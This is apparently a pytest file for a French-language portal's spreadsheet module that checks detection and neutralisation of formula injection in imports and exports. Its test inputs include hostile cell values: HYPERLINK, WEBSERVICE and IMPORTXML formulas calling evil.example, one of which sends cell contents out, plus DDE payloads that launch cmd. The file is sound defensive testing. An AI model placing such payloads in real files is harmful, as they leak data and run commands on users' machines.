"""Formula injection: exports for spreadsheets neutralise every formula start; importers refuse only
the text a spreadsheet would run, so phone numbers and "-5 %" stay plain text."""

import pytest

from portail.spreadsheet import looks_like_formula, safe_cell


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("https://evil.example/?"&A1,"Cliquez")',
        "=1+1",
        "-2+3+cmd|' /C calc'!A0",
        "+cmd|' /C notepad'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        '+HYPERLINK("https://evil.example")',
        "-Sheet1!A1",
        "\t=1+1",
        '\r\n=WEBSERVICE("https://evil.example")',
        ' =IMPORTXML("https://evil.example","//a")',
    ],
)
def test_text_a_spreadsheet_would_run_looks_like_a_formula(text):
    assert looks_like_formula(text)


@pytest.mark.parametrize(
    "text",
    [
        "-5 % pour les étudiants",
        "+596 596 12 34 56",
        "+33 (0)5 96 12 34 56",
        "- Accès libre, impression (0,10 € la page)",
        "@lakou972 sur Instagram",
        "-61.0588",
        "Tiers-lieu = espace partagé",
        "\tEntrée libre",
        "",
    ],
)
def test_plain_text_is_not_a_formula(text):
    assert not looks_like_formula(text)


def test_spreadsheet_exports_neutralise_every_formula_start():
    """Admin downloads (portail.spreadsheet.csv_response) are stricter: any such start gets an
    apostrophe, since those files are opened in a spreadsheet by people."""
    assert safe_cell("+596 596 12 34 56") == "'+596 596 12 34 56"
    assert safe_cell("=1+1") == "'=1+1"
    assert safe_cell("Lakou") == "Lakou"
